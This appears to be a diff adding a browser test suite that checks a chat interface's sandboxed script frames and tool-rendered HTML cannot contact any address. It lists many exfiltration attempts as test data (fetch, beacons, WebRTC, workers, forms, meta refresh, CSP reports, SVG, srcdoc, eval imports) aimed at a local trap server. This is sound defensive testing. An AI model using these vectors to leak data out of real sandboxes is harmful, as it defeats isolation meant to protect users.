@@ -1,0 +1,192 @@
+/** What stands in frames, HTML of tools and drawings of scripts: it reaches neither the page nor any address. */
+import { afterEach, beforeEach, describe, expect, test } from "vitest";
+import { commands } from "vitest/browser";
+import { ScriptFrame } from "../../src/ui/script-frame.js";
+import { message } from "../fake.js";
+import { closeAll, draw, drawn } from "./drawn.js";
+import { COLLECTIONS } from "./payloads.js";
+import { harm, noise, watch } from "./watch.js";
+
+const told: Record<string, unknown>[] = [];
+addEventListener("message", ({ data }) => {
+  if (data?.test) told.push(data);
+});
+const cleanups: (() => void)[] = [];
+let port = 0;
+beforeEach(async () => {
+  await watch();
+  port = await commands.trap();
+  await commands.trapped();
+});
+afterEach(() => {
+  closeAll();
+  for (const cleanup of cleanups.splice(0)) cleanup();
+  told.length = 0;
+});
+
+const LONG = { timeout: 120_000 };
+const soon = (ms = 400) => new Promise((done) => setTimeout(done, ms));
+
+/** Run a script in a frame, with what it needs to call for help. */
+function run(body: string): Promise<string> {
+  const box = document.createElement("div");
+  box.className = "cw";
+  document.body.append(box);
+  const script = `const HTTP = "http://127.0.0.1:${port}/secret", TLS = "https://127.0.0.1:${port}/secret", PORT = ${port};
+    const tell = (test, more) => parent.postMessage({ test, more }, "*");
+    const add = (tag, more) => { const made = Object.assign(document.createElement(tag), more); document.body.append(made); return made; };
+    export default { async render({ el }) { ${body} } };`;
+  return new Promise((done) => {
+    const options = { title: "x", script, module: true, onEnd: (_: boolean, why: string) => done(why) };
+    const frame = new ScriptFrame(box, options, "secret");
+    cleanups.push(() => {
+      frame.dispose();
+      box.remove();
+    });
+  });
+}
+
+describe("a script in a frame", () => {
+  const CALLS: [string, string][] = [
+    ["fetch", "fetch(HTTP, { mode: 'no-cors' }).catch(() => {})"],
+    ["XMLHttpRequest", "const x = new XMLHttpRequest(); x.open('POST', HTTP); x.send('secret')"],
+    ["a socket", "new WebSocket(`ws://127.0.0.1:${PORT}`)"],
+    ["an event source", "new EventSource(HTTP)"],
+    ["a beacon", "navigator.sendBeacon(HTTP, 'secret')"],
+    ["WebTransport", "new WebTransport(TLS).ready.catch(() => {})"],
+    ["an image", "new Image().src = HTTP"],
+    ["a style", "add('style', { textContent: `@import '${HTTP}'; * { background: url(${HTTP}) }` })"],
+    ["a font", "new FontFace('x', `url(${HTTP})`).load().catch(() => {})"],
+    ["a script", "add('script', { src: HTTP })"],
+    ["a module", "await import(HTTP + '.js').catch(() => {})"],
+    ["a module, from code that is a text", "for (const act of [eval, Function, setTimeout]) try { const made = act(`import('${HTTP}.js')`); if (act === Function) made(); } catch {} Promise.resolve(`import('${HTTP}.js')`).then(eval)"],
+    ["a module of a module", "await import(URL.createObjectURL(new Blob([`import '${HTTP}.js'`], { type: 'text/javascript' }))).catch(() => {})"],
+    ["a script of its own module", "add('script', { type: 'module', textContent: `import '${HTTP}.js'` }); add('script', { type: 'module', src: URL.createObjectURL(new Blob([`import '${HTTP}.js'`], { type: 'text/javascript' })) })"],
+    ["a worker", "new Worker(URL.createObjectURL(new Blob([`fetch('${HTTP}'); importScripts('${HTTP}')`])))"],
+    ["a worker of a module", "new Worker(URL.createObjectURL(new Blob([`import '${HTTP}.js'`])), { type: 'module' })"],
+    ["a shared worker", "new SharedWorker(URL.createObjectURL(new Blob([`fetch('${HTTP}')`])))"],
+    ["links to prepare a visit", "for (const rel of ['prefetch', 'prerender', 'preload', 'modulepreload', 'stylesheet', 'icon', 'manifest']) add('link', { rel, href: HTTP, as: 'image' })"],
+    ["speculation", "add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [HTTP] }], prerender: [{ urls: [HTTP] }] }) })"],
+    ["a frame", "add('iframe', { src: HTTP }); add('object', { data: HTTP }); add('embed', { src: HTTP })"],
+    ["a frame by text", "add('iframe', { srcdoc: `<meta http-equiv=refresh content='0;url=${HTTP}'><img src='${HTTP}'>` })"],
+    ["itself", "location.href = HTTP"],
+    ["itself by a refresh", "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + HTTP }))"],
+    ["itself by a link", "add('base', { href: HTTP }); add('a', { href: 'x', ping: HTTP }).click()"],
+    ["a window by a link", "add('a', { href: HTTP, target: '_blank' }).click(); open(HTTP)"],
+    ["the page by a link", "add('a', { href: HTTP, target: '_top' }).click()"],
+    ["a download", "add('a', { href: HTTP, download: 'x' }).click()"],
+    ["a form", "const f = add('form', { action: HTTP, method: 'post' }); f.submit(); add('form', { action: HTTP, target: '_blank' }).requestSubmit()"],
+    ["a policy that reports", "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'Content-Security-Policy', content: `img-src 'none'; report-uri ${HTTP}` })); new Image().src = HTTP"],
+    ["SVG", "el.innerHTML = `<svg><image href='${HTTP}'/><use href='${HTTP}#a'/><feImage href='${HTTP}'/></svg>`"],
+    ["media", "add('video', { src: HTTP, poster: HTTP }); add('audio', { src: HTTP, autoplay: true })"],
+  ];
+  test.each(CALLS)("cannot call anybody by %s", async (_, act) => {
+    await run(`try { ${act} } catch {}`);
+    await soon();
+    expect(await commands.trapped()).toEqual([]);
+    expect((await commands.seen()).opened).toEqual([]);
+  });
+
+  const RTC = `const call = (RTC) => { const p = new RTC({ iceServers: [{ urls: ["turn:127.0.0.1:" + PORT + "?transport=tcp", "stun:127.0.0.1:" + PORT], username: "secret", credential: "secret" }] }); p.createDataChannel("x"); return p.createOffer().then((offer) => p.setLocalDescription(offer)); };`;
+  test.each([
+    ["of its own", "await call(window.RTCPeerConnection ?? window.webkitRTCPeerConnection)"],
+    ["of an empty frame", "await call(add('iframe', {}).contentWindow.RTCPeerConnection)"],
+    [
+      "of a frame with a script",
+      "const code = `<script>const PORT = ${PORT}; const call = ${call}; call(RTCPeerConnection)</scr` + 'ipt>'; add('iframe', { srcdoc: code })",
+    ],
+    [
+      "of a frame with a script from here",
+      "const src = URL.createObjectURL(new Blob([`const PORT = ${PORT}; const call = ${call}; call(RTCPeerConnection)`], { type: 'text/javascript' })); add('iframe', { srcdoc: `<script src='${src}'></scr` + 'ipt>' })",
+    ],
+    ["of a frame with a handler", "add('iframe', { srcdoc: `<img src=x onerror='parent.postMessage(1, \"*\"); new RTCPeerConnection'>` })"],
+    ["of a frame with an address of script", "add('iframe', { src: `javascript:(${call})(RTCPeerConnection)` })"],
+    ["of a frame from here", "add('iframe', { src: URL.createObjectURL(new Blob(['<script>1</scr' + 'ipt>'], { type: 'text/html' })) })"],
+    ["of itself, begun anew", "if (!window.name) { window.name = 'x'; location.reload(); } else await call(window.RTCPeerConnection)"],
+    ["of itself, written anew", "document.open(); document.write('<p>x'); document.close(); await call(window.RTCPeerConnection)"],
+    ["of itself elsewhere", "location.href = 'about:blank'"],
+    ["of the frame around it", "await call(parent.RTCPeerConnection)"],
+    ["of a worker", "new Worker(URL.createObjectURL(new Blob([`const PORT = ${PORT}; (${call})(self.RTCPeerConnection)`])))"],
+  ])("cannot call anybody by WebRTC %s", async (_, act) => {
+    void run(`${RTC} try { ${act} } catch {}`);
+    await soon(900);
+    expect(await commands.trapped()).toEqual([]);
+  });
+
+  test("does not know the word that lets scripts run", async () => {
+    await run(`const words = [...document.querySelectorAll("*")].map((one) => one.nonce || one.outerHTML).join();
+      tell("nonce", /nonce|[0-9a-f]{16}/.test(words)); const s = add("script", { textContent: "parent.postMessage({ test: 'ran' }, '*')" });
+      add("p", {}).setAttribute("onclick", "tell('ran')"); document.querySelector("p").click();`);
+    await soon(200);
+    expect(told).toEqual([{ test: "nonce", more: false }]);
+  });
+});
+
+describe("HTML of a tool", () => {
+  const shown = async (html: string) => {
+    const bundle = { "text/html": `<p>words</p>${html}` };
+    const chat = await draw({ messages: [message("a", "assistant", [{ type: "display", bundle }])] });
+    await expect
+      .poll(() => chat.find<HTMLIFrameElement>("iframe").contentDocument?.body?.textContent)
+      .toContain("words");
+    return chat;
+  };
+
+  test("of all collections runs nothing, asks nobody and stays in its frame", LONG, async () => {
+    for (const texts of Object.values(COLLECTIONS)) {
+      for (let at = 0; at < texts.length; at += 20) {
+        const parts = texts
+          .slice(at, at + 20)
+          .map((text) => ({ type: "display", bundle: { "text/html": `<p>words</p>${text}` } }));
+        const chat = await draw({ messages: [message("a", "assistant", parts)], max_height: "400px" });
+        await soon(100);
+        expect(harm(chat.root)).toEqual([]);
+        expect(await noise()).toEqual([]);
+        chat.remove();
+      }
+    }
+  });
+
+  const HINTS = ["preconnect", "dns-prefetch", "prefetch", "prerender", "preload", "stylesheet", "icon", "manifest"];
+  test.each([
+    ["a hint", HINTS.map((rel) => `<link rel=${rel} href=URL as=image>`).join("")],
+    ["a hint in a shadow", "<div><template shadowrootmode=open><link rel=preconnect href=URL></template></div>"],
+    ["a hint in SVG", "<svg><desc><link rel=preconnect href=URL></desc></svg><math><mi><LiNk/rel=preconnect href=URL>"],
+    ["a refresh", "<meta http-equiv=refresh content='0;url=URL'>"],
+    ["another policy", "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri URL\"><img src=URL>"],
+    ["a frame", "<iframe src=URL></iframe><object data=URL></object><embed src=URL><frameset><frame src=URL></frameset>"],
+    ["a frame by text", "<iframe srcdoc='<link rel=preconnect href=URL><img src=URL>'></iframe>"],
+    ["a picture", "<img src=URL srcset='URL 2x'><picture><source srcset=URL><img></picture><input type=image src=URL>"],
+    ["media", "<video src=URL poster=URL autoplay></video><audio src=URL autoplay></audio><track src=URL>"],
+    ["a style", "<style>@import 'URL'; @font-face { font-family: x; src: url(URL) } * { font-family: x; background: url(URL) }</style>"],
+    ["an attribute", "<body background=URL><table background=URL><td style='background: url(URL)'>x"],
+    ["SVG", "<svg><image href=URL /><use href='URL#a'/><feImage href=URL /><a href=URL><text y=20>x</text></a></svg>"],
+    ["another base", "<base href=URL><img src=x>"],
+  ])("calls nobody by %s", async (_, html) => {
+    await shown(html.replaceAll("URL", `http://127.0.0.1:${port}/`));
+    await soon();
+    expect(await commands.trapped()).toEqual([]);
+    expect(await noise()).toEqual([]);
+  });
+
+  test("has no element left that a browser calls an address for before it looks at the policy", async () => {
+    const tags = ["link", "meta", "base", "iframe", "frame", "object", "embed"];
+    const spelt = tags.flatMap((tag) => [`<${tag} a>`, `<${tag.toUpperCase()}\t`, `<${tag}/a>`, `<${tag}>`, `<x><${tag}\n>`]);
+    const chat = await shown(`${spelt.join("")}<p>${"<svg><foreignObject><LINK rel=preconnect>"}`);
+    const inside = chat.find<HTMLIFrameElement>("iframe").contentDocument as Document;
+    // The page's own first.
+    expect([...inside.querySelectorAll(tags.join())].map((one) => one.outerHTML.slice(0, 22))).toEqual([
+      '<meta charset="utf-8">',
+      '<meta http-equiv="Cont',
+    ]);
+  });
+
+  test("does not take the keyboard, nor lie over the page", async () => {
+    const chat = await shown(
+      "<input autofocus><dialog open style='position:fixed;inset:0'>x</dialog><div style='position:fixed;inset:-9999px;z-index:9999'>x</div>",
+    );
+    await drawn();
+    expect(document.activeElement?.localName).not.toBe("iframe");
+    expect(harm(chat.root)).toEqual([]);
+  });
+});
